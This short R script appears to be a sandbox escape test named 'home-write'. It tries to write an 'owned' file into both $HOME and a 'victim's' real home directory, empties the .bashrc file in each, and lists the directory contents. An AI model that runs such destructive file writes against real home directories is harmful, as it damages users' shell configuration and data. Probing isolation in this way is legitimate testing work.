# home-write: drop a file in the home and empty the shell's rc file, both by
# $HOME and by the victim's real home path.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
for (h in c(path.expand("~"), T[["T_HOME"]])) {
  try(writeLines("owned", file.path(h, "evil.txt")))
  try(writeLines(character(0), file.path(h, ".bashrc")))
  print(list.files(h, all.files = TRUE))
}
